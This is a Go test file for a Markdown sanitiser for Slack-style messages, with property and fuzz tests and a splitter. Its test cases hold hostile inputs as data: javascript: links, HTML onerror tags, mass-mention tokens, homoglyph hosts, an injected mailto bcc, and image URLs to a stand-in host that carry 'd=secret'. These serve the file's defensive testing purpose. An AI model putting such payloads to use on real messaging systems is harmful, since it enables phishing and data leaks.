package blockkit

import (
	"fmt"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	mdtext "github.com/yuin/goldmark/text"
	"pgregory.net/rapid"
)

func TestSafeMarkdown(t *testing.T) {
	for _, tt := range []struct{ name, in, want string }{
		{"plain", "The total is **41,200 €**, _12 %_ under plan.", "The total is **41,200 €**, _12 %_ under plan."},
		{"mass mention token", "hey <!channel> look", "hey &lt;!channel> look"},
		{"user", "ask <@U123>", "ask &lt;@U123>"},
		{"bare mass mention", "@here (@Channel), not bob@here.com", "＠here (＠Channel), not bob@here.com"},
		{"mail with a query", "[a](mailto:a@b.c?bcc=evil@e.com)", "[a (a@b.c)](mailto:a@b.c)"},
		{"mass mention as a mailbox", "<!@here> [](@here)", "&lt;!＠here>  (＠here)"},
		{"date token", "<!date^0^{date}^https://x|y>", "&lt;!date^0^{date}^https://x|y>"},
		{"link", "see [the plan](https://example.com/plan)", "see [the plan (example.com)](https://example.com/plan)"},
		{"link that names its host", "[docs on example.com](https://example.com/a)", "[docs on example.com](https://example.com/a)"},
		{"link that is its own label", "[https://example.com/a](https://example.com/a)", "[https://example.com/a](https://example.com/a)"},
		{"label is another address", "[https://google.com](https://evil.example/x)", "[evil.example](https://evil.example/x)"},
		{"user in the address", "[a](https://google.com@evil.example/)", "[a (evil.example)](https://google.com@evil.example/)"},
		{"look-alike host", "[bank](https://b\u0430nk.com)", "[bank (xn--bnk-6cd.com)](https://b\u0430nk.com)"},
		{"port", "[a](http://127.0.0.1:8484/x)", "[a (127.0.0.1:8484)](http://127.0.0.1:8484/x)"},
		{"script", "[click](javascript:alert(1))", "click (link removed)"},
		{"script by entity", "[click](javascript&colon;alert(1))", "click (link removed)"},
		{"slack scheme", "[open](slack://channel?id=1)", "open (link removed)"},
		{"mail", "[write](mailto:dean@example.edu)", "[write (dean@example.edu)](mailto:dean@example.edu)"},
		{"relative", "[readme](docs/readme.md)", "readme (docs/readme.md)"},
		{"title is dropped", "[a](https://e.com \"say <!here>\")", "[a (e.com)](https://e.com)"},
		{"angle destination", "[a](<https://e.com/a b>)", "[a (e.com)](https://e.com/a%20b)"},
		{"ampersand stays raw", "[a](https://e.com/?a=1&b=2)", "[a (e.com)](https://e.com/?a=1&b=2)"},
		{"image", "![chart](https://evil.example/p.png?d=secret)", "[image: chart (evil.example)](https://evil.example/p.png?d=secret)"},
		{"image without alt", "![](https://evil.example/p.png)", "[image: (evil.example)](https://evil.example/p.png)"},
		{"linked image", "[![alt](https://a.example/i.png)](https://b.example)", "[!\\[alt]\\(https://a.example/i.png) (b.example)](https://b.example)"},
		{"data image", "![x](data:image/png;base64,AAAA)", "image: x (link removed)"},
		{"reference", "see [a][r]\n\n[r]: https://evil.example", "see [a (evil.example)](https://evil.example)\n\n[r]\\: https://evil.example"},
		{"shortcut reference", "[r]\n\n[r]: https://evil.example", "[r (evil.example)](https://evil.example)\n\n[r]\\: https://evil.example"},
		{"autolink", "<https://example.com/x>", "https://example.com/x"},
		{"odd autolink", "<javascript:alert(1)>", "&lt;javascript:alert(1)>"},
		{"html", "<img src=x onerror=y> <b>b</b>", "&lt;img src=x onerror=y> &lt;b>b&lt;/b>"},
		{"links inside html are seen", "<div>\n[a](https://evil.example)\n</div>", "&lt;div>\n[a (evil.example)](https://evil.example)\n&lt;/div>"},
		{"not a link to us, perhaps to them", "[a] (x) and [a]( x y z )", "[a] (x) and [a]\\( x y z )"},
		{"quote and list", "> quoted\n> - item", "> quoted\n> - item"},
		{"code fence", "```go\nif a < b && c[i](x) { // ![i](j) @here\n```", "```go\nif a < b && c[i](x) { // ![i](j) @here\n```"},
		{"live token in code", "`<!channel>` and\n```\n<@U1>\n```", "`‹!channel>` and\n```\n‹@U1>\n```"},
		{"code span", "use `a < b` or `[x](y)`", "use `a < b` or `[x](y)`"},
		{"indented code", "text\n\n    a < b [x](y)\n", "text\n\n    a < b [x](y)\n"},
		{"table", "| a | b |\n|---|--:|\n| [x](https://e.com) | `1<2` |", "| a | b |\n|---|--:|\n| [x (e.com)](https://e.com) | `1<2` |"},
		{"our marks", "✓ Sent\n\n**⚠ really**\n- ✉ Draft", "√ Sent\n\n**! really**\n- @ Draft"},
		{"our mark in a link at a line's start", "[✓ Sent](https://e.com)", "[√ Sent (e.com)](https://e.com)"},
		{"hidden characters", "a\u200bb [x\u202e](https://e.com)", "a‹U+200B›b [x‹U+202E› (e.com)](https://e.com)"},
		{"label over two lines", "[a\nb](https://e.com)", "[a b (e.com)](https://e.com)"},
		{"emphasis in a label", "[**a** `b`](https://e.com)", "[**a** `b` (e.com)](https://e.com)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := SafeMarkdown(tt.in); got != tt.want {
				t.Errorf("SafeMarkdown(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
			checkSafe(t, tt.in)
		})
	}
}

type reporter interface {
	Helper()
	Errorf(format string, args ...any)
}

// checkSafe reads the result with a reader of all of Markdown, HTML included,
// and looks for what must not be there.
func checkSafe(t reporter, s string) {
	t.Helper()
	out := SafeMarkdown(s)
	if liveToken.MatchString(out) {
		t.Errorf("a live token is left in %q, from %q", out, s)
	}
	src := []byte(out)
	defer func() {
		if p := recover(); p != nil && !strings.Contains(fmt.Sprint(p), "index out of range") {
			panic(p) // goldmark's own panics say nothing about us
		}
	}()
	root := goldmark.New(goldmark.WithExtensions(extension.Table)).Parser().Parse(mdtext.NewReader(src))
	_ = ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := n.(type) {
		case *ast.Image, *ast.RawHTML, *ast.HTMLBlock, *ast.AutoLink:
			t.Errorf("a %s is left in %q, from %q", n.Kind(), out, s)
		case *ast.Link:
			_, host, ok := showable(resolve(n.Destination))
			if !ok || !strings.Contains(strings.ToLower(wordsOf(n, src)), host) {
				t.Errorf("the link %q to %q hides its host in %q, from %q", wordsOf(n, src), n.Destination, out, s)
			}
		case *ast.Text:
			if massMention.Match(n.Segment.Value(src)) && n.Parent().Kind() != ast.KindCodeSpan {
				t.Errorf("a mass mention is left in %q, from %q", out, s)
			}
		}
		return ast.WalkContinue, nil
	})
}

// mdPieces are what Markdown, and attacks on it, are made of.
var mdPieces = []string{
	"[", "]", "(", ")", "!", "<", ">", "`", "```", "```\n", "~~~\n", "\n", "\n\n", "a", "word ", "https://evil.example/x", "javascript:x",
	"mailto:a@b.c", "](", "![", "]:", "[r]", "[r]: https://e.com\n", "\\", "&lt;", "&colon;", "|", "|---|\n", "> ", "- ", "1. ", "    ", "\t",
	"<!channel>", "<@U1>", "@here", "*", "_", "\"", "'", "#", "\u200b", "✓ ", "<div>", "</div>", "<!--", "-->", "é", "😀", "http://a@b/", "\r\n", "=\n",
}

func TestSafeMarkdownIsSafe(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		checkSafe(t, strings.Join(rapid.SliceOfN(rapid.SampledFrom(mdPieces), 0, 40).Draw(t, "pieces"), ""))
	})
}

func FuzzSafeMarkdown(f *testing.F) {
	f.Add("[a](https://e.com) ![b](c) <!here> `x`\n\n```\ny\n```")
	f.Add("[r]\n\n[r]: https://evil.example\n> [![a](b)](c)")
	f.Fuzz(func(t *testing.T, s string) { checkSafe(t, s) })
}

func TestCodeKeepsItsBytes(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		line := rapid.StringMatching(`[a-zA-Z<>()\[\]!&|_*#" -]{0,40}`)
		code := strings.Join(rapid.SliceOfN(line, 1, 10).Draw(t, "code"), "\n")
		if liveToken.MatchString(code) {
			t.Skip("live tokens in code are disarmed")
		}
		block := "```go\n" + code + "\n```"
		if got := SafeMarkdown("before [a](https://e.com)\n\n" + block + "\n\nafter"); !strings.Contains(got, block) {
			t.Errorf("the code changed:\n%s\nin\n%s", block, got)
		}
	})
}

func TestPlainFallback(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"# Title\n\nThe **total** is `41` [here](https://e.com/x).", "Title\nThe total is 41 here (e.com)."},
		{"- a\n- b\n\n```\ncode\n```", "a\nb\ncode"},
		{"| a | b |\n|---|---|\n| 1 | 2 |", "a b\n1 2"},
		{"<!channel> @here ![x](https://e.com/i.png)", "&lt;!channel&gt; ＠here x"},
		{"✓ Sent", "√ Sent"},
		{"", ""},
	} {
		if got := PlainFallback(tt.in); got != tt.want {
			t.Errorf("PlainFallback(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestSplitMarkdown(t *testing.T) {
	para := strings.Repeat("word ", 40)
	long := strings.TrimSpace(strings.Repeat(para+"\n\n", 5))
	for i, p := range SplitMarkdown(long, 450) {
		if strings.TrimSpace(p) != strings.TrimSpace(para+"\n\n"+para) && i < 2 {
			t.Errorf("piece %d doesn't end with a paragraph: %q", i, p)
		}
	}

	code := "Intro.\n\n```go title=x\n" + strings.Repeat("fmt.Println(1)\n", 60) + "```\nOutro."
	pieces := SplitMarkdown(code, 300)
	for i, p := range pieces {
		if strings.Count(p, "```")%2 != 0 {
			t.Errorf("piece %d leaves its fence open: %q", i, p)
		}
		if i > 1 && i < len(pieces)-1 && !strings.HasPrefix(p, "```go\n") {
			t.Errorf("piece %d doesn't open the fence with its language: %q", i, p)
		}
	}

	table := "| name | value |\n|---|---|\n" + strings.Repeat("| some name | some value |\n", 40)
	for i, p := range SplitMarkdown(table, 300) {
		if !strings.HasPrefix(p, "| name | value |\n|---|---|\n| some") {
			t.Errorf("piece %d is no table: %q", i, p)
		}
		for _, row := range strings.Split(p, "\n") {
			if !strings.HasPrefix(row, "|") || !strings.HasSuffix(row, "|") {
				t.Errorf("a row was cut: %q", row)
			}
		}
	}

	link := "[the label of a link](https://example.com/with/a/long/path/to/something)"
	for _, p := range SplitMarkdown(strings.Repeat("some text and "+link+" ", 20), 300) {
		if strings.Count(p, "[") != strings.Count(p, link) {
			t.Errorf("a link was cut: %q", p)
		}
	}
	if got := SplitMarkdown("short", 300); len(got) != 1 || got[0] != "short" {
		t.Errorf("a short text became %q", got)
	}
}

// subsequence reports whether the non-space characters of want occur in got in
// their order: pieces may repeat fences and headers, but lose nothing.
func subsequence(want, got string) bool {
	g := []rune(got)
	i := 0
	for _, r := range want {
		if unicode.IsSpace(r) {
			continue
		}
		for i < len(g) && g[i] != r {
			i++
		}
		if i == len(g) {
			return false
		}
		i++
	}
	return true
}

func TestSplitMarkdownLosesNothing(t *testing.T) {
	pieces := append([]string{strings.Repeat("long ", 100), strings.Repeat("x", 700), strings.Repeat("| a | b |\n", 30), strings.Repeat("line\n", 50),
		"\n```go\n" + strings.Repeat("code()\n", 60) + "```\n", "[label](https://example.com/" + strings.Repeat("p", 400) + ")"}, mdPieces...)
	rapid.Check(t, func(t *rapid.T) {
		s := strings.Join(rapid.SliceOfN(rapid.SampledFrom(pieces), 0, 60).Draw(t, "pieces"), "")
		limit := rapid.SampledFrom([]int{1, 256, 400, 3000, 12000}).Draw(t, "max")
		parts := SplitMarkdown(s, limit)
		for i, p := range parts {
			if units(p) > max(limit, minSplit) {
				t.Errorf("piece %d has %d characters, at most %d are allowed", i, units(p), limit)
			}
		}
		if joined := strings.Join(parts, "\n"); !subsequence(s, joined) {
			t.Errorf("text was lost:\n%q\n%q", s, parts)
		}
	})
}

// TestHostileMarkdownIsQuick: nothing costs much more than its length.
func TestHostileMarkdownIsQuick(t *testing.T) {
	for _, unit := range []string{"[", "![", "](", ">", "> ", "- ", "*", "_", "`", "``` ", "<", "[a](", "&", "|", "|-|\n", "[a]\n", "[a]: b\n", "\\", "(", "a@", "**a ", "1. ", "\n> ", "\t"} {
		s := strings.Repeat(unit, 8000/len(unit))
		start := time.Now()
		out := SafeMarkdown(s)
		PlainFallback(s)
		SplitMarkdown(out, 3000)
		Fit(s, 3000)
		Visible(s, VisibleOptions{})
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%q repeated took %v", unit, d)
		} else if d > 500*time.Millisecond {
			t.Logf("%q repeated took %v", unit, d)
		}
	}
}

func ExampleSafeMarkdown() {
	fmt.Println(SafeMarkdown("![pixel](https://evil.example/?d=secret) <!channel>"))
	// Output: [image: pixel (evil.example)](https://evil.example/?d=secret) &lt;!channel>
}
